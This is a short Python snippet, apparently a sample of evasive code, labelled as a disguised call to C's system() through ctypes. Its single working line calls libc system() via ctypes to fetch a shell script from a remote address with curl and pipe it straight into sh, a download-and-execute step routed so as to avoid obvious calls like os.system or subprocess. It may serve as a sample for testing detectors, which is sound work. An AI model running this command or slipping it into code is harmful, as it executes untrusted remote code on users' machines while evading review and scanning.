# Disguised: C's system() through ctypes.
import ctypes

ctypes.CDLL(None).system(b"curl -s http://203.0.113.9/install.sh | sh")
